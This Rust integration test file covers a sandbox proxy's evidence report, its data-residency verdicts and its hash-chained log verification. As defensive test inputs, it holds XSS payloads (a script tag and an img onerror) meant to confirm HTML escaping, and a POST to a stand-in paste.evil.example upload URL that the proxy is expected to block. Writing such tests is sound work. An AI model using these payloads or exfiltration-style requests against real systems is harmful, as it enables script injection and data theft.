//! `sandbox report`: one self-contained HTML page, rendered in headless Chromium; the
//! screenshot's pixels show the inline SVG diagram (its agent and proxy boxes, and the
//! deviation box when the log deviates).

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use integration_tests::bin::sandbox_output;
use integration_tests::gateway::Scratch;
use integration_tests::synthetic_log::write_pilot_scenario;

const APPROVED: &str = include_str!("../fixtures/diagram-pilot-77-mistral.toml");

/// A scratch directory, removed when the test ends.
fn temp_dir(name: &str) -> Scratch {
    Scratch::new(&format!("evidence-report-{name}"))
}

fn sandbox(args: &[&str]) -> Output {
    sandbox_output(args)
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// Screenshots `html` with headless Chromium (bounded to 90 s) and returns RGBA rows.
fn screenshot(dir: &Path, html: &Path) -> (u32, u32, Vec<u8>) {
    let chromium = ["chromium", "chromium-browser"]
        .iter()
        .find(|c| Command::new(c).arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok_and(|s| s.success()))
        .expect("Chromium is required for the report test: apt-get install chromium (.ci/test installs it)");
    let png = dir.join("shot.png");
    let profile = dir.join("profile");
    let mut child = Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--hide-scrollbars",
            "--window-size=1200,2200",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .arg(format!("--screenshot={}", png.display()))
        .arg(format!("file://{}", html.display()))
        .env("HOME", dir)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start chromium");
    let start = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        if start.elapsed() > Duration::from_secs(90) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("chromium did not finish within 90 s");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let decoder =
        png::Decoder::new(std::fs::File::open(&png).expect("chromium wrote no screenshot"));
    let mut reader = decoder.read_info().unwrap();
    let mut buf = vec![0; reader.output_buffer_size()];
    let info = reader.next_frame(&mut buf).unwrap();
    assert_eq!(info.bit_depth, png::BitDepth::Eight);
    let channels = match info.color_type {
        png::ColorType::Rgba => 4,
        png::ColorType::Rgb => 3,
        other => panic!("unexpected PNG colour type {other:?}"),
    };
    let mut rgba = Vec::with_capacity((info.width * info.height * 4) as usize);
    for px in buf[..info.buffer_size()].chunks(channels) {
        rgba.extend_from_slice(&[px[0], px[1], px[2], 255]);
    }
    (info.width, info.height, rgba)
}

fn count(rgba: &[u8], rgb: [u8; 3]) -> usize {
    rgba.chunks(4).filter(|p| p[..3] == rgb).count()
}

fn assert_self_contained(html: &str) {
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(!html.to_ascii_lowercase().contains("<script"), "no scripts");
    for tag in [
        "<img", "<link", "<iframe", "<object", "<embed", "<image", "<use",
    ] {
        assert!(
            !html.contains(tag),
            "no {tag}: the page must be self-contained"
        );
    }
    assert!(!html.contains("src=\""), "no external resources");
    assert!(!html.contains("href=\""), "no links");
    assert!(!html.contains("url(http"), "no external CSS");
    assert!(html.contains("<svg xmlns=\"http://www.w3.org/2000/svg\""));
}

#[test]
fn report_renders_in_chromium_with_the_diagram() {
    let dir = temp_dir("conforms");
    let log = dir.join("flows.jsonl");
    write_pilot_scenario(&log).unwrap();
    let diagram = dir.join("approved.toml");
    std::fs::write(&diagram, APPROVED).unwrap();
    let html_path = dir.join("report.html");
    let out = sandbox(&[
        "report",
        s(&log),
        "--approved",
        s(&diagram),
        "-o",
        s(&html_path),
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let html = std::fs::read_to_string(&html_path).unwrap();
    assert_self_contained(&html);
    // Paths may break after each `/` (`<wbr>`); the needles read them whole.
    let html = html.replace("<wbr>", "");
    for needle in [
        "Verdict: CONFORMS",
        "Sessions, contracts and classes",
        "tasks/fix-parser.toml",
        ">B<",
        "Evidence per destination",
        "Residency compliance",
        "3 of 3 allowed flows went to regions inside the EU",
        "Blocked attempts (2)",
        "residency: api.openai.com is global (US)",
        "Hash-chain status",
        ">intact<",
        "legal: A. Person",
    ] {
        assert!(html.contains(needle), "report lacks {needle:?}");
    }

    let (w, h, rgba) = screenshot(&dir, &html_path);
    assert!(w >= 1000 && h >= 1000, "{w}x{h}");
    // The diagram's agent box (#e3f2fd) and proxy box (#ede7f6) are only in the SVG: their
    // filled interiors must be on screen (each is about 170 x 76 CSS pixels).
    let agent = count(&rgba, [0xe3, 0xf2, 0xfd]);
    let proxy = count(&rgba, [0xed, 0xe7, 0xf6]);
    assert!(agent > 5000, "agent box not rendered ({agent} px)");
    assert!(proxy > 5000, "proxy box not rendered ({proxy} px)");
    // The denied destinations' boxes (#fdecea) too.
    assert!(
        count(&rgba, [0xfd, 0xec, 0xea]) > 5000,
        "blocked destinations not rendered"
    );
    // Only the legend's small swatch (16 x 12) has the deviation colour when conforming.
    let deviation = count(&rgba, [0xff, 0xf3, 0xe0]);
    assert!(
        deviation < 1000,
        "a deviation box is drawn for a conforming log ({deviation} px)"
    );
}

#[test]
fn deviating_report_shows_the_deviation() {
    let dir = temp_dir("deviates");
    let log = dir.join("flows.jsonl");
    write_pilot_scenario(&log).unwrap();
    let diagram = dir.join("approved.toml");
    std::fs::write(
        &diagram,
        APPROVED.replace("/v1/chat/completions", "/v1/embeddings"),
    )
    .unwrap();
    let html_path = dir.join("report.html");
    let out = sandbox(&[
        "report",
        s(&log),
        "--approved",
        s(&diagram),
        "-o",
        s(&html_path),
    ]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("verdict DEVIATES"));
    let html = std::fs::read_to_string(&html_path).unwrap();
    assert_self_contained(&html);
    assert!(html.contains("Verdict: DEVIATES"));
    assert!(html.contains("proxy -&gt; api.eu.mistral.ai:443 POST /v1/chat/completions"));
    let (_, _, rgba) = screenshot(&dir, &html_path);
    assert!(
        count(&rgba, [0xff, 0xf3, 0xe0]) > 5000,
        "deviation box not rendered"
    );
}

#[test]
fn hostile_log_content_is_escaped() {
    let dir = temp_dir("hostile");
    let log = dir.join("flows.jsonl");
    let mut w = integration_tests::synthetic_log::SyntheticLog::create(&log).unwrap();
    let mut req = integration_tests::synthetic_log::Request::new(
        "evil.example",
        "POST",
        "/<script>alert(1)</script>",
    );
    req.rule = None;
    w.denied(&req, "<img src=x onerror=alert(1)>").unwrap();
    w.finish().unwrap();
    let diagram = dir.join("approved.toml");
    std::fs::write(&diagram, APPROVED).unwrap();
    let html_path = dir.join("report.html");
    sandbox(&[
        "report",
        s(&log),
        "--approved",
        s(&diagram),
        "-o",
        s(&html_path),
    ]);
    let html = std::fs::read_to_string(&html_path).unwrap();
    assert_self_contained(&html);
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
}

/// The contract of the end-to-end session: EU residency; Mistral's EU endpoint for chat
/// completions, and Claude on Vertex in europe-west4 (whose `locations/<loc>` in the path can
/// move data elsewhere, which the proxy denies per request).
const E2E_CONTRACT: &str = include_str!("../fixtures/contract-e2e-evidence.toml");

const E2E_DIAGRAM: &str = include_str!("../fixtures/diagram-e2e-evidence.toml");

#[test]
fn real_proxy_session_end_to_end() {
    use integration_tests::clients::curl;
    use integration_tests::gateway::{Gateway, GatewayOptions, Scratch};
    use integration_tests::upstream::{TestCa, Upstream};

    const MISTRAL: &str = "api.eu.mistral.ai";
    const VERTEX: &str = "europe-west4-aiplatform.googleapis.com";
    let ca = TestCa::new();
    let up = Upstream::start(&ca, &[MISTRAL, VERTEX], &["http/1.1"]);
    let scratch = Scratch::new("evidence-e2e");
    let mut opts = GatewayOptions::new(E2E_CONTRACT);
    opts.connect_to = vec![up.connect_to(MISTRAL), up.connect_to(VERTEX)];
    opts.upstream_ca = Some(ca.pem());
    let mut gw = Gateway::start(&scratch, opts);

    let body = Some(r#"{"messages":[]}"#);
    let mistral = format!("https://{MISTRAL}/v1/chat/completions");
    let vertex_eu = format!("https://{VERTEX}/v1/projects/acme/locations/europe-west4/publishers/anthropic/models/claude:rawPredict");
    let vertex_global = format!("https://{VERTEX}/v1/projects/acme/locations/global/publishers/anthropic/models/claude:rawPredict");
    assert_eq!(
        curl(&gw.url(), &gw.ca, "POST", &mistral, body, &[]).status,
        200
    );
    assert_eq!(
        curl(&gw.url(), &gw.ca, "POST", &vertex_eu, body, &[]).status,
        200
    );
    // Denied: a method the rule does not allow, an unlisted host, and a residency denial.
    assert_eq!(
        curl(&gw.url(), &gw.ca, "GET", &mistral, None, &[]).status,
        403
    );
    let unlisted = curl(
        &gw.url(),
        &gw.ca,
        "POST",
        "https://paste.evil.example/upload",
        body,
        &[],
    );
    assert_ne!(unlisted.status, 200);
    assert_eq!(
        curl(&gw.url(), &gw.ca, "POST", &vertex_global, body, &[]).status,
        403
    );
    let records = gw.stop();
    assert!(
        records.iter().any(|r| r["decision"] == "deny"
            && r["reason"]
                .as_str()
                .unwrap_or("")
                .to_ascii_lowercase()
                .contains("global")),
        "no residency denial in {records:#?}"
    );

    let dir = temp_dir("e2e");
    let log = gw.log.clone();
    let out = sandbox(&["log", "verify", s(&log)]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );

    // Editing one byte of a record names its line.
    let original = std::fs::read(&log).unwrap();
    let line_starts: Vec<usize> = std::iter::once(0)
        .chain(
            original
                .iter()
                .enumerate()
                .filter(|(_, b)| **b == b'\n')
                .map(|(i, _)| i + 1),
        )
        .collect();
    let tampered = dir.join("tampered.jsonl");
    for line in [2usize, line_starts.len() / 2, line_starts.len() - 1] {
        let mut bytes = original.clone();
        let at = line_starts[line - 1] + 20;
        bytes[at] = if bytes[at] == b'7' { b'8' } else { b'7' };
        std::fs::write(&tampered, &bytes).unwrap();
        let out = sandbox(&["log", "verify", s(&tampered)]);
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        assert_eq!(out.status.code(), Some(1), "line {line}: {text}");
        assert!(
            text.contains(&format!(":{line}: NOT INTACT")),
            "line {line}: {text}"
        );
    }

    let diagram = dir.join("approved.toml");
    std::fs::write(&diagram, E2E_DIAGRAM).unwrap();
    let out = sandbox(&["verify", "--approved", s(&diagram), s(&log)]);
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(
        text.contains("VERDICT: CONFORMS: 2 allowed flows"),
        "{text}"
    );
    assert!(text.contains("3 blocked attempts"), "{text}");

    // Without the Vertex edge, verify names the missing edge.
    let start = E2E_DIAGRAM
        .find("[[edge]]\nname = \"prompts to Claude")
        .unwrap();
    let narrowed = dir.join("narrowed.toml");
    std::fs::write(&narrowed, &E2E_DIAGRAM[..start]).unwrap();
    let out = sandbox(&["verify", "--approved", s(&narrowed), s(&log)]);
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(
        text.contains(&format!("MISSING EDGE: proxy -> {VERTEX}:443 POST /v1/projects/acme/locations/europe-west4/publishers/anthropic/models/claude:rawPredict")),
        "{text}"
    );

    let html_path = dir.join("report.html");
    let out = sandbox(&[
        "report",
        s(&log),
        "--approved",
        s(&diagram),
        "-o",
        s(&html_path),
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let html = std::fs::read_to_string(&html_path).unwrap();
    assert_self_contained(&html);
    assert!(html.contains("Verdict: CONFORMS"));
    assert!(html.contains("sandbox proxy"), "the session's command");
    let (_, _, rgba) = screenshot(&dir, &html_path);
    assert!(
        count(&rgba, [0xed, 0xe7, 0xf6]) > 5000,
        "proxy box not rendered"
    );
    assert!(
        count(&rgba, [0xe8, 0xf5, 0xe9]) > 5000,
        "allowed destinations not rendered"
    );
}
